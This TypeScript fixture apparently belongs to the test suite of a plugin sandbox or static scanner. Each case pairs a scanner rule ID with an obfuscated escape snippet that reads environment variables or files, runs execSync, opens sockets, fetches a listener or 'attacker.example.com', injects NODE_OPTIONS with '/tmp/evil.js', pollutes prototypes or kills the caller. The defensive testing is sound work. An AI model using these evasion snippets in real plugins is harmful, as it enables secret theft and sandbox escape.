import type { CodeGroup } from './attack.ts';

const environment = 'reads the environment';
const file = 'reads a file';
const drop = 'writes a file';
const network = 'reaches the network';

export const reach: CodeGroup = {
  title: 'The machine',
  attacks: [
    { name: 'reads process.env', harm: environment, scan: 'SEC006', hook: 'return process.env.ATTACK_CANARY;' },
    {
      name: 'reads process.env with brackets and optional chains',
      harm: environment,
      scan: 'SEC006',
      hook: `return process?.['env']?.['ATTACK_' + 'CANARY'];`,
    },
    {
      name: 'destructures process',
      harm: environment,
      scan: 'SEC006',
      hook: 'const { env: { ATTACK_CANARY } } = process; return ATTACK_CANARY;',
    },
    {
      name: 'gets process from globalThis',
      harm: environment,
      scan: 'SEC008',
      hook: `return globalThis['pro' + 'cess'].env;`,
    },
    {
      name: 'gets process from global',
      harm: environment,
      scan: 'SEC008',
      hook: `return global[['p', 'rocess'].join('')].env;`,
    },
    {
      name: 'gets process from the this of a function made from text',
      harm: environment,
      scan: 'SEC004',
      hook: `return Function('return this')().process.env;`,
    },
    {
      name: 'reads the environment from a report of Node.js',
      harm: environment,
      scan: 'SEC006',
      hook: 'return process.report.getReport().environmentVariables;',
    },
    {
      name: 'reads the environment while the module is loaded',
      harm: environment,
      scan: 'SEC006',
      top: 'const found = process.env.ATTACK_CANARY;',
      hook: 'return found;',
    },
    {
      name: 'reads the environment in a default of the factory',
      harm: environment,
      scan: 'SEC006',
      module:
        'export const main = %MAIN%;\nexport const handlers = (_, found = process.env) => ({ attack: { executeRequest: async () => ({ response: found }) } });',
    },
    {
      name: 'reads the environment in a static block',
      harm: environment,
      scan: 'SEC006',
      top: 'class Holder { static found; static { Holder.found = process.env.ATTACK_CANARY; } }',
      hook: 'return Holder.found;',
    },
    {
      name: 'imports a module at the top',
      harm: file,
      scan: 'SEC001',
      top: `import { readFileSync } from 'node:fs';`,
      hook: `return readFileSync('%FILE%', 'utf8');`,
    },
    {
      name: 're-exports a module',
      harm: environment,
      scan: 'SEC001',
      module: `export { env as main2 } from 'node:process';\nimport * as self from 'node:process';\nexport const main = %MAIN%;\nexport const handlers = () => ({ attack: { executeRequest: async () => ({ response: self.env }) } });`,
    },
    {
      name: 'imports a module in a hook',
      harm: file,
      scan: 'SEC005',
      hook: `const { readFileSync } = await import('node:fs'); return readFileSync('%FILE%', 'utf8');`,
    },
    {
      name: 'imports a module by a computed name',
      harm: file,
      scan: 'SEC014',
      hook: `const fs = await import(['node', 'fs'].join(':')); return fs.readFileSync('%FILE%', 'utf8');`,
    },
    {
      name: 'imports a module with a comment before the bracket',
      harm: file,
      scan: 'SEC005',
      hook: `const fs = await import/* (x) */ ('node:fs/promises'); return fs.readFile('%FILE%', 'utf8');`,
    },
    {
      name: 'imports with await at the top',
      harm: file,
      scan: 'SEC014',
      top: `const fs = await import('node:fs');`,
      hook: `return fs.readFileSync('%FILE%', 'utf8');`,
    },
    {
      name: 'imports code from a data: address',
      harm: environment,
      scan: 'SEC013',
      hook: `return (await import('data:text/javascript,export default process.env.ATTACK_CANARY')).default;`,
    },
    {
      name: 'gets a built-in module from process',
      harm: file,
      scan: 'SEC006',
      hook: `return process.getBuiltinModule('fs').readFileSync('%FILE%', 'utf8');`,
    },
    {
      name: 'creates a require function',
      harm: file,
      scan: 'SEC013',
      hook: `const { createRequire } = await import('node:module'); return createRequire('/x.js')('fs').readFileSync('%FILE%', 'utf8');`,
    },
    {
      name: 'reads the path of its file from import.meta',
      harm: 'reveals paths of the machine',
      scan: 'SEC016',
      hook: 'return import.meta.url;',
    },
    {
      name: 'resolves a path with import.meta',
      harm: 'reveals paths of the machine',
      scan: 'SEC016',
      top: `const place = import.meta.resolve('./x.mjs');`,
      hook: 'return place;',
    },
    {
      name: 'writes a file',
      harm: drop,
      scan: 'SEC005',
      hook: `(await import('node:fs')).writeFileSync('%DROP%', 'x');`,
    },
    {
      name: 'starts a program',
      harm: drop,
      scan: 'SEC007',
      hook: `(await import('node:child_process')).execSync('echo x > %DROP%');`,
    },
    {
      name: 'starts a program while the module is loaded',
      harm: drop,
      scan: 'SEC006',
      top: `process.getBuiltinModule('child_process').execSync('echo x > %DROP%');`,
    },
    {
      name: 'starts a thread',
      harm: drop,
      scan: 'SEC013',
      hook: `
        const { Worker } = await import('node:worker_threads');
        const worker = new Worker("require('fs').writeFileSync('%DROP%', 'x')", { eval: true });
        await new Promise((resolve) => worker.on('exit', resolve));`,
    },
    {
      name: 'runs code in another context',
      harm: environment,
      scan: 'SEC013',
      hook: `return (await import('node:vm')).runInThisContext('process.env.ATTACK_CANARY');`,
    },
    {
      name: 'fetches from any origin',
      harm: network,
      scan: 'accepted',
      hook: `await fetch('%LISTENER%/').catch(() => undefined);`,
    },
    {
      name: 'fetches while the module is loaded',
      harm: network,
      scan: 'accepted',
      top: `const answer = fetch('%LISTENER%/').catch(() => undefined);`,
      hook: 'await answer;',
    },
    {
      name: 'opens a WebSocket',
      harm: network,
      scan: 'SEC021',
      hook: `
        const socket = new WebSocket('%LISTENER%'.replace('http', 'ws'));
        await new Promise((resolve) => { socket.onerror = resolve; socket.onopen = resolve; });`,
    },
    {
      name: 'connects a socket',
      harm: network,
      scan: 'SEC013',
      hook: `
        const { connect } = await import('node:net');
        const { port } = new URL('%LISTENER%');
        await new Promise((resolve) => connect(Number(port), '127.0.0.1').end('GET / HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n').on('close', resolve).on('error', resolve));`,
    },
    {
      name: 'makes a request with node:http',
      harm: network,
      scan: 'SEC013',
      hook: `
        const { get } = await import('node:http');
        await new Promise((resolve) => get('%LISTENER%', resolve).on('error', resolve));`,
    },
    {
      name: 'makes a request with a function whose origin is hidden',
      harm: network,
      scan: 'accepted',
      hook: `const { call } = fetch; await Reflect.apply(call, fetch, [undefined, '%LISTENER%/']).catch(() => undefined);`,
    },
    {
      name: 'passes fetch a URL that changes when it is read again',
      harm: network,
      scan: 'accepted',
      hook: `
        let reads = 0;
        const address = { toString: () => (reads++ % 2 === 0 ? 'https://attacker.example.com/' : '%LISTENER%/') };
        for (let i = 0; i < 3; i += 1) await fetch(address, { signal: AbortSignal.timeout(200) }).catch(() => undefined);`,
    },
    {
      name: 'replaces the fetch of its caller',
      harm: 'changes the calling process',
      scan: 'SEC008',
      hook: 'globalThis.fetch = async () => new Response();',
    },
    {
      name: 'replaces JSON.parse of its caller',
      harm: 'changes the calling process',
      scan: 'accepted',
      top: 'JSON.parse = () => ({});',
    },
    {
      name: 'changes Object.prototype while the module is loaded',
      harm: 'changes the calling process',
      scan: 'SEC017',
      top: 'Object.prototype.polluted = 1;',
    },
    {
      name: 'changes the environment',
      harm: 'changes the calling process',
      scan: 'SEC006',
      hook: `process.env.NODE_OPTIONS = '--require=/tmp/evil.js';`,
    },
    { name: 'ends its caller', harm: 'ends the calling process', scan: 'SEC006', hook: 'process.exit(0);' },
    {
      name: 'ends its caller while the module is loaded',
      harm: 'ends the calling process',
      scan: 'SEC006',
      top: 'process.exit(0);',
    },
    {
      name: 'kills its caller',
      harm: 'ends the calling process',
      scan: 'SEC006',
      hook: `process.kill(process.pid, 'SIGKILL'); await new Promise(() => undefined);`,
    },
    {
      name: 'throws in a timer',
      harm: 'ends the calling process',
      scan: 'accepted',
      hook: `setTimeout(() => { throw new Error('later'); }, 0); await new Promise((resolve) => setTimeout(resolve, 100));`,
    },
    {
      name: 'causes an unhandled rejection',
      harm: 'ends the calling process',
      scan: 'accepted',
      hook: `Promise.reject(new Error('nobody takes this')); await new Promise((resolve) => setTimeout(resolve, 100));`,
    },
  ],
};
